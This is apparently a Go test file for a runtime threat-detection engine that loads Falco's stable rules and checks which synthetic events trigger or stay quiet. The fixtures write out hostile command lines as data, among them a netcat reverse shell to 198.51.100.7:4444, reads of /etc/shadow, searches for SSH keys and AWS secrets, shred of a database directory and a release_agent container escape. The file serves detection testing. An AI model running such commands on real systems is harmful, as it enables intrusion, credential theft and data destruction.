package engine

import (
	"os"
	"path/filepath"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/pkg/alert"
	"github.com/vigilsec/vigil/pkg/event"
	"github.com/vigilsec/vigil/pkg/rules"
	"golang.org/x/sys/unix"
)

const stableRules = "../../../shared/falco/falco_rules.yaml"

// loadStable loads Falco's stable rules, then the extra files, with a host
// resolver of the test's own (the system's resolver, stopped when the test
// ends), so that no lookup outlives the test.
func loadStable(t testing.TB, extra ...string) *rules.Ruleset {
	t.Helper()
	if _, err := os.Stat(stableRules); err != nil {
		t.Skipf("Falco rules fixture not found: %v", err)
	}
	h := rules.NewHostResolver(rules.HostResolverOptions{})
	t.Cleanup(h.Close)
	rs, _, err := rules.LoadWith(rules.LoadOptions{Hosts: h}, append([]string{stableRules}, extra...)...)
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func newEngine(t testing.TB, rs *rules.Ruleset, matching string) *Engine {
	t.Helper()
	e, err := New(rs, Options{RuleMatching: matching, Hostname: "node-1", UserName: users, GroupName: groups,
		Now: func() time.Time { return time.Unix(0, baseTS) }})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func fired(e *Engine, ev *event.Event) []*alert.Alert {
	var out []*alert.Alert
	e.Process(ev, func(a *alert.Alert) { out = append(out, a) })
	return out
}

func ruleNames(as []*alert.Alert) []string {
	var n []string
	for _, a := range as {
		n = append(n, a.Rule)
	}
	return n
}

func TestStableRulesFire(t *testing.T) {
	// Contact K8S API Server From Container compares the server with the
	// addresses of kubernetes.default.svc.cluster.local, which does not
	// resolve outside a cluster: a local rules file, as users write, points
	// its macro at localhost, which does. Every other stable rule fires with
	// Falco's file as it is.
	local := filepath.Join(t.TempDir(), "local.yaml")
	if err := os.WriteFile(local, []byte("- macro: k8s_api_server\n  condition: (fd.sip.name = localhost)\n  override:\n    condition: replace\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rs := loadStable(t, local)
	e := newEngine(t, rs, MatchAll)

	shellInContainer := func() *event.Event {
		runc := proc(300, "runc:[1:CHILD]", "/usr/bin/runc", nil)
		sh := proc(301, "bash", "/bin/bash", runc)
		sh.TTY = 34816
		ev := execEvent(sh, containerMeta())
		ev.TTY = 34816
		return ev
	}
	catShadow := func() *event.Event {
		cat := proc(210, "cat", "/usr/bin/cat", hostChain(), "/etc/shadow")
		return openEvent(cat, "/etc/shadow", unix.O_RDONLY|unix.O_CLOEXEC, 3, nil)
	}
	symlink := func() *event.Event {
		ln := proc(211, "ln", "/usr/bin/ln", hostChain(), "-s", "/etc/shadow", "/tmp/x")
		ev := newEvent(event.TypeSymlinkat, ln)
		ev.Args.Path, ev.Args.Path2, ev.Args.DirFd2 = "/etc/shadow", "/tmp/x", unix.AT_FDCWD
		return ev
	}
	hardlink := func() *event.Event {
		ln := proc(211, "ln", "/usr/bin/ln", hostChain(), "/etc/shadow", "/tmp/h")
		ev := newEvent(event.TypeLinkat, ln)
		ev.Args.Path, ev.Args.Path2, ev.Args.DirFd, ev.Args.DirFd2 = "/etc/shadow", "/tmp/h", unix.AT_FDCWD, unix.AT_FDCWD
		return ev
	}
	ptraceAttach := func(req int64) *event.Event {
		gdb := proc(212, "gdb", "/usr/bin/gdb", hostChain(), "-p", "1")
		ev := newEvent(event.TypePtrace, gdb)
		ev.Args.Request, ev.Args.TargetPid = req, 1
		return ev
	}
	packetSocket := func() *event.Event {
		p := proc(213, "tcpdump", "/usr/bin/tcpdump", nil)
		ev := newEvent(event.TypeSocket, p)
		ev.Args.Domain, ev.Args.SockType, ev.Ret = unix.AF_PACKET, unix.SOCK_RAW, 4
		ev.Meta = containerMeta()
		return ev
	}
	kmod := func() *event.Event {
		p := proc(214, "insmod", "/usr/sbin/insmod", nil)
		ev := newEvent(event.TypeFinitModule, p)
		ev.CapEffective = 1<<16 | 1<<21
		ev.Meta = containerMeta()
		return ev
	}
	truncLog := func() *event.Event {
		p := proc(215, "python3", "/usr/bin/python3", hostChain())
		return openEvent(p, "/var/log/syslog", unix.O_WRONLY|unix.O_TRUNC, 3, nil)
	}
	memfdExec := func() *event.Event {
		p := proc(216, "3", "memfd:x", hostChain())
		p.ExeFromMemfd = true
		p.Exe = "memfd:x"
		ev := execEvent(p, nil)
		ev.Args.ExeFromMemfd = true
		return ev
	}
	traversal := func() *event.Event {
		node := proc(217, "node", "/usr/bin/node", hostChain())
		p := proc(218, "node", "/usr/bin/node", node, "server.js")
		ev := openEvent(p, "/etc/passwd", unix.O_RDONLY, 5, nil)
		ev.Args.Path = "/srv/www/../../etc/passwd"
		ev.FD.NameRaw = ev.Args.Path
		return ev
	}
	trustedLate := func() *event.Event {
		p := proc(219, "nginx", "/usr/sbin/nginx", hostChain()) // started 60 s before the event
		return openEvent(p, "/etc/shadow", unix.O_RDONLY, 5, containerMeta())
	}
	exec := func(name, exe string, parent *event.Process, meta *event.Metadata, args ...string) *event.Event {
		return execEvent(proc(230, name, exe, parent, args...), meta)
	}
	nginx := proc(231, "nginx", "/usr/sbin/nginx", hostChain())
	systemUser := func() *event.Event {
		ev := exec("login", "/usr/bin/login", hostChain(), nil)
		ev.UID = 33 // www-data
		return ev
	}
	redirect := func() *event.Event {
		p := proc(232, "bash", "/bin/bash", proc(233, "python3", "/usr/bin/python3", nil))
		ev := newEvent(event.TypeDup2, p)
		ev.Args.Fd, ev.Args.Fd2, ev.Ret = 5, 0, 0
		ev.FD = connectEvent(p, "198.51.100.7:4444", nil).FD
		ev.Meta = containerMeta()
		return ev
	}
	privileged := func() *event.Metadata { m := containerMeta(); m.Privileged = true; return m }
	releaseAgent := func() *event.Event {
		p := proc(234, "sh", "/bin/sh", nil)
		ev := openEvent(p, "/sys/fs/cgroup/rdma/release_agent", unix.O_WRONLY, 3, containerMeta())
		ev.CapEffective = 1 << 21 // CAP_SYS_ADMIN, with uid 0
		return ev
	}
	dropped := func() *event.Event {
		ev := exec("xmrig", "/tmp/xmrig", nil, containerMeta())
		ev.Proc.ExeUpperLayer, ev.Args.ExeUpperLayer = true, true
		return ev
	}
	sshOut := func(remote string) *event.Event {
		p := proc(235, "ssh", "/usr/bin/ssh", hostChain(), "-p", "443", "user@example.com")
		return connectEvent(p, remote, nil)
	}
	k8sAPI := func(remote string) *event.Event {
		p := proc(236, "curl", "/usr/bin/curl", nil, "https://kubernetes.default")
		return connectEvent(p, remote, containerMeta())
	}
	// The override's name resolves in the background: wait for it.
	for deadline := time.Now().Add(10 * time.Second); !slices.Contains(ruleNames(fired(e, k8sAPI("127.0.0.1:443"))), "Contact K8S API Server From Container"); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("localhost never resolved")
		}
	}

	cases := []struct {
		name string
		ev   *event.Event
		want string
	}{
		{"traversal to /etc/passwd", traversal(), "Directory traversal monitored file read"},
		{"nginx reads shadow long after start", trustedLate(), "Read sensitive file trusted after startup"},
		{"cat /etc/shadow", catShadow(), "Read sensitive file untrusted"},
		{"shell under nginx", exec("bash", "/bin/bash", nginx, nil, "-i"), "Run shell untrusted"},
		{"www-data logs in", systemUser(), "System user interactive"},
		{"terminal shell in container", shellInContainer(), "Terminal shell in container"},
		{"container calls the API server", k8sAPI("127.0.0.1:443"), "Contact K8S API Server From Container"},
		{"nc -e in a container", exec("nc", "/usr/bin/nc", nil, containerMeta(), "-e", "/bin/sh", "198.51.100.7", "4444"), "Netcat Remote Code Execution in Container"},
		{"find id_rsa", exec("find", "/usr/bin/find", hostChain(), nil, "/", "-name", "id_rsa"), "Search Private Keys or Passwords"},
		{"truncate a log", truncLog(), "Clear Log Activities"},
		{"shred", exec("shred", "/usr/bin/shred", hostChain(), nil, "-u", "/var/lib/db"), "Remove Bulk Data from Disk"},
		{"symlink to /etc/shadow", symlink(), "Create Symlink Over Sensitive Files"},
		{"hardlink to /etc/shadow", hardlink(), "Create Hardlink Over Sensitive Files"},
		{"packet socket", packetSocket(), "Packet socket created in container"},
		{"stdin from a socket", redirect(), "Redirect STDOUT/STDIN to Network Connection in Container"},
		{"kernel module", kmod(), "Linux Kernel Module Injection Detected"},
		{"debugfs in a privileged container", exec("debugfs", "/usr/sbin/debugfs", nil, privileged(), "/dev/sda1"), "Debugfs Launched in Privileged Container"},
		{"release_agent write", releaseAgent(), "Detect release_agent File Container Escapes"},
		{"ptrace attach", ptraceAttach(unix.PTRACE_ATTACH), "PTRACE attached to process"},
		{"ptrace traceme", ptraceAttach(unix.PTRACE_TRACEME), "PTRACE anti-debug attempt"},
		{"grep for AWS keys", exec("grep", "/usr/bin/grep", hostChain(), nil, "-r", "aws_secret_access_key", "/home"), "Find AWS Credentials"},
		{"run from /dev/shm", exec("x", "/dev/shm/x", hostChain(), nil), "Execution from /dev/shm"},
		{"binary written in the container", dropped(), "Drop and execute new binary in container"},
		{"ssh to port 443", sshOut("93.184.216.34:443"), "Disallowed SSH Connection Non Standard Port"},
		{"memfd exec", memfdExec(), "Fileless execution via memfd_create"},
	}
	covered := map[string]bool{}
	for _, tc := range cases {
		covered[tc.want] = true
		t.Run(tc.name, func(t *testing.T) {
			got := ruleNames(fired(e, tc.ev))
			if !slices.Contains(got, tc.want) {
				t.Errorf("fired %v, want %q among them", got, tc.want)
			}
		})
	}
	for _, r := range rs.Rules() {
		if !covered[r.Name] {
			t.Errorf("stable rule %q has no event that fires it", r.Name)
		}
	}

	quiet := []struct {
		name string
		ev   *event.Event
	}{
		{"read /etc/hosts", openEvent(proc(220, "cat", "/usr/bin/cat", hostChain()), "/etc/hosts", unix.O_RDONLY, 3, nil)},
		{"close", closeEvent(hostChain(), 3)},
		{"shell without tty", func() *event.Event { ev := shellInContainer(); ev.Proc.TTY, ev.TTY = 0, 0; return ev }()},
		{"shell on the host", func() *event.Event { ev := shellInContainer(); ev.Meta = nil; return ev }()},
		{"ptrace peekdata", ptraceAttach(unix.PTRACE_PEEKUSR)},
		{"inet socket", func() *event.Event { ev := packetSocket(); ev.Args.Domain = unix.AF_INET; return ev }()},
		{"sshd reads shadow", func() *event.Event {
			p := proc(221, "sshd", "/usr/sbin/sshd", hostChain())
			return openEvent(p, "/etc/shadow", unix.O_RDONLY, 3, nil)
		}()},
		{"container calls another server", k8sAPI("10.96.0.10:443")},
		{"ssh inside the private network", sshOut("10.0.0.7:443")},
		{"ssh to port 22", sshOut("93.184.216.34:22")},
		{"debugfs in an unprivileged container", exec("debugfs", "/usr/sbin/debugfs", nil, containerMeta())},
		{"grep for a word", exec("grep", "/usr/bin/grep", hostChain(), nil, "-r", "TODO", "/src")},
	}
	early := trustedLate()
	early.Proc.StartTS = early.Timestamp - 1_000_000_000
	if got := ruleNames(fired(e, early)); slices.Contains(got, "Read sensitive file trusted after startup") {
		t.Errorf("nginx reading /etc/shadow 1 s after start fired %v", got)
	}
	for _, tc := range quiet {
		t.Run("quiet/"+tc.name, func(t *testing.T) {
			if got := fired(e, tc.ev); len(got) != 0 {
				t.Errorf("fired %v, want nothing", ruleNames(got))
			}
		})
	}
}

func TestAlertContent(t *testing.T) {
	e := newEngine(t, loadStable(t), MatchFirst)
	cat := proc(210, "cat", "/usr/bin/cat", hostChain(), "/etc/shadow")
	ev := openEvent(cat, "/etc/shadow", unix.O_RDONLY, 3, containerMeta())
	ev.UID = 1000
	as := fired(e, ev)
	if len(as) != 1 {
		t.Fatalf("fired %v, want one alert", ruleNames(as))
	}
	a := as[0]
	if a.Rule != "Read sensitive file untrusted" || a.Priority != alert.PriorityWarning || a.Source != "syscall" || a.Hostname != "node-1" {
		t.Errorf("alert header %q %v %q %q", a.Rule, a.Priority, a.Source, a.Hostname)
	}
	if a.Tenant != "acme" || a.Namespace != "shop" || a.Pod != "web-7d9f" || a.ContainerID != "0123456789ab" {
		t.Errorf("workload %q %q %q %q", a.Tenant, a.Namespace, a.Pod, a.ContainerID)
	}
	if !a.Time.Equal(time.Unix(0, baseTS)) {
		t.Errorf("time %v", a.Time)
	}
	want := map[string]any{
		"fd.name": "/etc/shadow", "proc.aname[2]": "sshd", "proc.aname[3]": "systemd", "proc.aname[4]": nil,
		"evt.type": "openat", "user.name": "alice", "user.uid": uint64(1000), "user.loginuid": int64(-1),
		"proc.name": "cat", "proc.exepath": "/usr/bin/cat", "proc.pname": "bash", "proc.cmdline": "cat /etc/shadow",
		"proc.tty": int64(0),
	}
	for k, v := range want {
		if got, ok := a.OutputFields[k]; !ok || got != v {
			t.Errorf("output field %s = %#v (present %v), want %#v", k, got, ok, v)
		}
	}
	if len(a.OutputFields) != len(want) {
		t.Errorf("output fields %v, want exactly %d", a.OutputFields, len(want))
	}
	const out = "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd gggparent=<NA> evt_type=openat user=alice user_uid=1000 user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=0"
	if a.Output != out {
		t.Errorf("output\n got %s\nwant %s", a.Output, out)
	}
}

func TestRuleMatchingFirstAndAll(t *testing.T) {
	rs, _, err := rules.LoadBytes("t.yaml", []byte(`
- rule: A
  desc: a
  condition: evt.type = openat and fd.name startswith /etc
  output: a %fd.name
  priority: INFO
- rule: B
  desc: b
  condition: evt.type = openat and fd.name = /etc/passwd
  output: b
  priority: WARNING
- rule: C
  desc: c
  condition: evt.type = connect
  output: c
  priority: WARNING
`))
	if err != nil {
		t.Fatal(err)
	}
	ev := openEvent(hostChain(), "/etc/passwd", unix.O_RDONLY, 3, nil)
	first := newEngine(t, rs, MatchFirst)
	if got := ruleNames(fired(first, ev)); !slices.Equal(got, []string{"A"}) {
		t.Errorf("first: fired %v, want [A]", got)
	}
	fired(first, closeEvent(hostChain(), 3))
	if st := first.Stats(); st[0].Evaluated != 1 || st[0].Matched != 1 || st[1].Evaluated != 0 || st[1].Matched != 0 {
		t.Errorf("first: stats %+v, want B neither evaluated nor matched", st)
	}
	all := newEngine(t, rs, MatchAll)
	if got := ruleNames(fired(all, ev)); !slices.Equal(got, []string{"A", "B"}) {
		t.Errorf("all: fired %v, want [A B]", got)
	}
	st := all.Stats()
	if len(st) != 3 || st[0].Evaluated != 1 || st[0].Matched != 1 || st[1].Matched != 1 || st[2].Evaluated != 0 {
		t.Errorf("stats %+v", st)
	}
	if _, err := New(rs, Options{RuleMatching: "some"}); err == nil {
		t.Error("New accepted rule_matching \"some\"")
	}
}

func TestSwapWhileProcessing(t *testing.T) {
	a, _, err := rules.LoadBytes("a.yaml", []byte("- rule: A\n  desc: a\n  condition: evt.type = openat\n  output: a\n  priority: INFO\n"))
	if err != nil {
		t.Fatal(err)
	}
	b, _, err := rules.LoadBytes("b.yaml", []byte("- rule: B\n  desc: b\n  condition: evt.type = openat\n  output: b\n  priority: INFO\n"))
	if err != nil {
		t.Fatal(err)
	}
	e := newEngine(t, a, MatchFirst)
	ev := openEvent(hostChain(), "/etc/passwd", unix.O_RDONLY, 3, nil)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 1000; i++ {
			if i%2 == 0 {
				e.Swap(b)
			} else {
				e.Swap(a)
			}
		}
	}()
	for i := 0; i < 5000; i++ {
		e.Process(ev, func(al *alert.Alert) {
			if al.Rule != "A" && al.Rule != "B" {
				t.Errorf("alert from rule %q", al.Rule)
			}
		})
	}
	wg.Wait()
	e.Swap(b)
	if got := ruleNames(fired(e, ev)); !slices.Equal(got, []string{"B"}) {
		t.Errorf("after swap fired %v, want [B]", got)
	}
}

func TestReloadKeepsWorkingRuleset(t *testing.T) {
	dir := t.TempDir()
	path := dir + "/rules.yaml"
	write := func(s string) {
		if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("- rule: A\n  desc: a\n  condition: evt.type = openat\n  output: a\n  priority: INFO\n")
	e := newEngine(t, nil, MatchFirst)
	ev := openEvent(hostChain(), "/etc/passwd", unix.O_RDONLY, 3, nil)
	if got := fired(e, ev); len(got) != 0 {
		t.Fatalf("engine without rules fired %v", ruleNames(got))
	}
	if _, err := e.Reload(path); err != nil {
		t.Fatal(err)
	}
	write("- rule: B\n  desc: b\n  condition: evt.type = openat and proc.nme = x\n  output: b\n  priority: INFO\n")
	if _, err := e.Reload(path); err == nil {
		t.Fatal("reload of a broken file succeeded")
	}
	if got := ruleNames(fired(e, ev)); !slices.Equal(got, []string{"A"}) {
		t.Errorf("after a failed reload fired %v, want [A]", got)
	}
}

// TestStableRulesNoAllocPerEvent checks what BenchmarkStableRuleset reports:
// in steady state, the stable rules evaluate its event mix without
// allocating: not one allocation over ten passes of its 100 events.
func TestStableRulesNoAllocPerEvent(t *testing.T) {
	if _, err := os.Stat(stableRules); err != nil {
		t.Skipf("Falco rules fixture not found: %v", err)
	}
	// A resolver stopped before measuring: no lookup allocates meanwhile.
	h := rules.NewHostResolver(rules.HostResolverOptions{})
	rs, _, err := rules.LoadWith(rules.LoadOptions{Hosts: h}, stableRules)
	h.Close()
	if err != nil {
		t.Fatal(err)
	}
	e := newEngine(t, rs, MatchFirst)
	evs := eventMix()
	alerts := 0
	emit := func(*alert.Alert) { alerts++ }
	for _, ev := range evs { // warm up scratch buffers
		e.Process(ev, emit)
	}
	// One measured run of ten passes: AllocsPerRun truncates the mean, so
	// more runs would hide an allocation on fewer than one run in N.
	allocs := testing.AllocsPerRun(1, func() {
		for range 10 {
			for _, ev := range evs {
				e.Process(ev, emit)
			}
		}
	})
	if alerts != 0 {
		t.Fatalf("the benign mix fired %d alerts", alerts)
	}
	if allocs != 0 {
		t.Errorf("%v allocations over ten passes of the %d events of the mix, want 0", allocs, len(evs))
	}
}
